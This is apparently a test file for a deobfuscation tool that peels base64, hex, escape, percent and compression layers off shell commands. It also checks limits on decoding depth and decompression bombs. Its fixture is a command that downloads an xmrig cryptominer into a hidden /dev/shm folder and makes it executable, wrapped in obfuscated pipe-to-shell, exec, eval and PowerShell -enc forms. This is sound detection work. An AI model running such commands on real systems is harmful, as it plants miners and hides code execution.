import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodeLayers, MOST_DEPTH, MOST_OUT } from './decode';

const script = 'curl -s http://203.0.113.10/xmrig -o /dev/shm/.x11/xmrig && chmod +x /dev/shm/.x11/xmrig';
const base64 = (bytes: Uint8Array | string) => Buffer.from(bytes).toString('base64');
const texts = (command: string) => decodeLayers(command).layers.map(({ steps, text }) => [steps.join(' '), text]);

describe('what a command hides', () => {
  it.each([
    ['base64', `echo ${base64(script)} | base64 -d | sh`, 'base64'],
    ['base64 for addresses', `x=${Buffer.from(`${script}??>>`).toString('base64url')}`, 'base64'],
    ['hexadecimal', `xxd -r -p <<< ${Buffer.from(script).toString('hex')}`, 'hex'],
    [
      'escapes of the shell',
      `printf '${[...Buffer.from(script)].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('')}'`,
      'escapes',
    ],
    [
      'octal escapes',
      `printf '${[...Buffer.from(script)].map((b) => `\\${b.toString(8).padStart(3, '0')}`).join('')}'`,
      'escapes',
    ],
    [
      'percent signs',
      `curl ${[...Buffer.from(script)].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('')}`,
      'percent',
    ],
    ['gzip in base64', `echo ${base64(gzipSync(script))} | base64 -d | gunzip`, 'base64 gzip'],
    ['zlib in base64', `python3 -c 'exec(zlib.decompress(b"${base64(deflateSync(script))}"))'`, 'base64 zlib'],
    ['deflate in base64', `php -r 'eval(gzinflate("${base64(deflateRawSync(script))}"))'`, 'base64 deflate'],
    ['UTF-16 of PowerShell', `pwsh -enc ${base64(Buffer.from(script, 'utf16le'))}`, 'base64 utf-16'],
  ])('%s', (_, command, steps) => {
    const [first] = texts(command);
    expect(first?.[0]).toBe(steps);
    expect(first?.[1]).toContain(script);
  });

  it('layer in layer, each with its place in the one around it', () => {
    const inner = `echo ${base64(script)} | sh`;
    const command = `sh -c "echo ${base64(inner)} | base64 -d"`;
    const { layers, stopped } = decodeLayers(command);
    expect(layers.map(({ depth, within, text }) => [depth, within, text])).toEqual([
      [1, null, inner],
      [2, 0, script],
    ]);
    expect(command.slice(...layers[0]!.range)).toBe(base64(inner));
    expect(inner.slice(...layers[1]!.range)).toBe(base64(script));
    expect(stopped).toBeNull();
  });

  it('says nothing of what is only a path, a hash, a word or an id', () => {
    for (const plain of [
      '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 /usr/share/dbus-1/system-services',
      'c3008e19c462248d2d1c736f7a01db460d7d2bfc7b3c507c9ca8f8a7c2830b36',
      'gcc -DHAVE_CONFIG_H -fstack-protector-strong -Wformat-security internationalization',
      '550e8400-e29b-41d4-a716-446655440000',
      '',
    ])
      expect(texts(plain), plain).toEqual([]);
  });
});

describe('bounds', () => {
  it('a bomb gives a megabyte and no more', () => {
    const bomb = `echo ${base64(gzipSync(Buffer.alloc(24 * 1024 * 1024, 'a')))}`;
    const { layers, bytes, stopped } = decodeLayers(bomb);
    expect(layers[0]).toMatchObject({ cut: true });
    expect(layers[0]!.text).toHaveLength(MOST_OUT);
    expect(bytes).toBe(MOST_OUT);
    expect(stopped).toBe('size');
  });

  it('no more than four layers', () => {
    let command = script;
    for (let i = 0; i < 7; i++) command = `echo ${base64(command)}`;
    const { layers, stopped } = decodeLayers(command);
    expect(Math.max(...layers.map(({ depth }) => depth))).toBe(MOST_DEPTH);
    expect(stopped).toBe('depth');
  });

  it('two megabytes of anything in a few seconds', () => {
    for (const piece of ['A', '%4', 'A b', '\\'])
      decodeLayers(piece.repeat(Math.ceil((2 * 1024 * 1024) / piece.length)));
  }, 60_000);

  it('holds for any text: no exception, no more bytes, ranges inside', () => {
    const word = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.uint8Array({ maxLength: 200 }).map(base64),
      fc.uint8Array({ maxLength: 200 }).map((bytes) => base64(gzipSync(bytes))),
      fc.uint8Array({ maxLength: 200 }).map((bytes) => base64(gzipSync(bytes).subarray(0, 40))),
      fc.string().map((text) => base64(base64(text))),
      fc.string({ unit: fc.constantFrom(...'%\\xu0123abcDEF+/='), maxLength: 80 }),
    );
    fc.assert(
      fc.property(fc.array(word, { maxLength: 6 }), (words) => {
        const text = words.join(' ');
        const { layers, bytes } = decodeLayers(text);
        expect(bytes).toBeLessThanOrEqual(MOST_OUT);
        for (const { depth, within, range, text: out } of layers) {
          expect(depth).toBeLessThanOrEqual(MOST_DEPTH);
          const around = within === null ? text : layers[within]!.text;
          expect(range[0]).toBeGreaterThanOrEqual(0);
          expect(range[1]).toBeLessThanOrEqual(around.length);
          expect(out.length).toBeGreaterThan(0);
        }
      }),
      { numRuns: 60 },
    );
  }, 30_000);
});
